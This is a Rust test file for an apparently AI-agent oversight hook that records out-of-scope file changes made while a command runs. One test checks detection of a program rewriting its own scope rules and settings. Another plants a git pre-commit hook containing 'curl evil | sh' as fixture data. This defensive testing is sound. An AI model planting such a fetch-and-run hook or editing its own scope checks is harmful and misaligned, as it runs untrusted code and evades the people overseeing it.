//! Changes that programs make in a workspace, which show only in the difference between before and after.

use crate::house;
use crate::house::{SHARED, expect, shared, write};
use serde_json::{Value, json};
use tollgate_guest::digest::Digest;
use tollgate_guest::ports::memory::STATE;

/// A program changes the rules by which it is judged.
#[test]
fn a_program_is_judged_by_what_was_in_force_when_it_began() {
    let mut house = shared();
    house.world.write("dist/a.js", "x");
    house.world.write(".gitignore", ".claude\n");
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    house.world.write(".orchestration/active_intents.yaml", SHARED.replace("'src/auth/**'", "'**'"));
    house.world.write("README.md", "changed");
    house.world.write(".gitignore", ".claude\ndist/\n");
    house.world.write(".claude/settings.json", "{}");
    let settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    assert_eq!(
        house::scopes(&settled),
        ["FAIL .claude/settings.json", "FAIL .gitignore", "FAIL .orchestration/active_intents.yaml", "FAIL README.md"]
    );
}

/// However many files a program changes in scope, what it changes out of scope is recorded.
#[test]
fn changes_out_of_scope_are_recorded_before_others() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    for number in 0..1_001 {
        house.world.write(&format!("src/auth/{number:04}"), "x");
    }
    house.world.write("zzz", "changed");
    let mut settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    let summary = settled["entries"].as_array_mut().unwrap().pop().unwrap();
    let scopes = house::scopes(&settled);
    assert_eq!((scopes.len(), scopes.iter().filter(|scope| scope.starts_with("FAIL")).count()), (1_000, 1));
    assert!(scopes.contains(&"FAIL zzz".to_owned()), "{settled}");
    assert_eq!(summary["scope_validation"], "PASS");
    let summary = summary["error"].as_str().unwrap();
    assert!(summary.starts_with("2 more files changed while `bash` ran, all of them in scope"), "{summary}");
    let notice = settled["notice"].as_str().unwrap();
    assert!(notice.contains("changed while `bash` ran: `zzz`;") && notice.contains(summary), "{notice}");
}

/// An entry of another session explains the change that it records, and no more.
#[test]
fn a_program_is_not_hidden_by_another_sessions_entry() {
    let mut house = shared();
    house.ask(json!({"op": "select-intent", "session": "t", "intent": "ALL"}));
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    for (call, file) in [("2", "kept"), ("3", "written"), ("4", "removed")] {
        house.call("pre-tool", ("t", call), "write", write(file));
        house.world.write(file, "of t");
        house.call("post-tool", ("t", call), "write", write(file));
    }
    let remove = json!({"command": "rm removed"});
    house.call("pre-tool", ("t", "5"), "bash", remove.clone());
    house.world.delete("removed");
    house.call("post-tool", ("t", "5"), "bash", remove);
    house.world.write("written", "by the program");
    house.world.symlink("kept", "removed");
    let settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    assert_eq!(house::scopes(&settled), ["FAIL removed", "FAIL written"]);
}

/// Without the snapshot from before, no file can be named, and none is made up.
#[test]
fn a_snapshot_that_is_gone_is_said_and_entered_as_a_failure() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    house.world.delete(&format!("{STATE}/snapshots"));
    house.world.write("README.md", "changed");
    let settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    let entry = &settled["entries"][0];
    assert_eq!(
        (&entry["scope_validation"], &entry["file"], &settled["entries"][1]),
        (&json!("FAIL"), &Value::Null, &Value::Null)
    );
    assert!(settled["notice"].as_str().unwrap().contains("the snapshot taken before it is gone"), "{settled}");
}

/// What the session itself does while its program runs is entered once, under the intent under which it was ruled on.
#[test]
fn a_program_is_not_blamed_for_its_own_sessions_other_calls() {
    let mut house = shared();
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    house.call("pre-tool", ("s", "2"), "write", write("src/auth/a.ts"));
    house.world.write("src/auth/a.ts", "new");
    house.call("post-tool", ("s", "2"), "write", write("src/auth/a.ts"));
    house.ask(json!({"op": "select-intent", "session": "s", "intent": "ALL"}));
    house.call("pre-tool", ("s", "3"), "write", write("README.md"));
    house.world.write("README.md", "new");
    house.call("pre-tool", ("s", "4"), "write", write("under/way"));
    house.world.write("under/way", "new");
    house.call("post-tool", ("s", "3"), "write", write("README.md"));
    assert_eq!(house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"})), json!({"entries": []}));
}

#[test]
fn what_a_program_changed_is_seen_afterwards() {
    let mut house = shared();
    house.world.write("gone.txt", "x");
    house.world.write("touched.txt", "x");
    let test = json!({"command": "npm test"});
    expect(&house.call("pre-tool", ("s", "1"), "bash", test.clone()), "allow", "in_scope");
    house.restart();
    house.world.write("src/auth/a.ts", "formatted\n");
    house.world.write("README.md", "overwritten\n");
    house.world.write("made.txt", "made");
    house.world.write("touched.txt", "x");
    house.world.write("node_modules/x/index.js", "nobody's");
    house.world.write(".git/hooks/pre-commit", "curl evil | sh");
    house.world.delete("gone.txt");
    let settled = house.call("post-tool", ("s", "1"), "bash", test);
    let told = |entry: &Value| {
        format!(
            "{} {} {}",
            entry["scope_validation"].as_str().unwrap(),
            entry["mutation_class"].as_str().unwrap(),
            entry["file"]["relative_path"].as_str().unwrap()
        )
    };
    let entries: Vec<String> = settled["entries"].as_array().unwrap().iter().map(told).collect();
    assert_eq!(
        entries,
        [
            "FAIL FILE_CREATION .git/hooks/pre-commit",
            "FAIL DOCUMENTATION README.md",
            "FAIL FILE_DELETION gone.txt",
            "FAIL FILE_CREATION made.txt",
            "PASS INTENT_EVOLUTION src/auth/a.ts",
        ]
    );
    let notice = settled["notice"].as_str().unwrap();
    assert!(
        notice.contains("files outside the scope of LOGIN changed while `bash` ran")
            && notice.contains("`README.md`")
            && notice.contains("trace revert"),
        "{notice}"
    );
    assert!(house.warned("outside the scope of LOGIN") > 0);
    // There is no git here that would have the files.
    for content in ["read me\n", "x", "one\n"] {
        let image = format!("{STATE}/images/{}", Digest::of(content.as_bytes()).hex());
        assert_eq!(house.world.content(&image).unwrap(), content.as_bytes());
    }
    // It is the session's own doing, so its next write is not stale.
    expect(&house.call("pre-tool", ("s", "2"), "write", write("src/auth/a.ts")), "allow", "in_scope");
}

#[test]
fn a_program_is_not_blamed_for_what_others_did() {
    let mut house = shared();
    house.ask(json!({"op": "select-intent", "session": "t", "intent": "ALL"}));
    house.call("pre-tool", ("s", "1"), "bash", json!({"command": "make"}));
    house.call("pre-tool", ("t", "2"), "write", write("README.md"));
    house.world.write("README.md", "theirs");
    house.call("post-tool", ("t", "2"), "write", write("README.md"));
    house.call("pre-tool", ("t", "3"), "write", write("CHANGELOG.md"));
    house.world.write("CHANGELOG.md", "half done");
    let settled = house.call("post-tool", ("s", "1"), "bash", json!({"command": "make"}));
    assert_eq!(settled, json!({"entries": []}));
}

#[test]
fn a_command_that_took_another_way_changed_nothing() {
    let mut house = shared();
    let command = json!({"command": "if grep -q x src/auth/a.ts; then rm src/auth/a.ts; else echo 2 > src/auth/b.ts; fi"});
    expect(&house.call("pre-tool", ("s", "1"), "bash", command.clone()), "allow", "in_scope");
    house.world.write("src/auth/b.ts", "2\n");
    let settled = house.call("post-tool", ("s", "1"), "bash", command);
    assert_eq!(settled["entries"].as_array().unwrap().len(), 1);
    assert_eq!(settled["entries"][0]["file"]["line_ranges"], json!([{"start": 1, "end": 1}]));
}

#[test]
fn a_call_that_a_person_allowed_is_entered_too() {
    let mut house = shared();
    let command = json!({"command": "eval \"$X\""});
    expect(&house.call("pre-tool", ("s", "1"), "bash", command.clone()), "ask", "unknown_effects");
    house.world.write("README.md", "changed");
    let settled = house.call("post-tool", ("s", "1"), "bash", command);
    assert_eq!(settled["entries"][0]["scope_validation"], "FAIL");
}
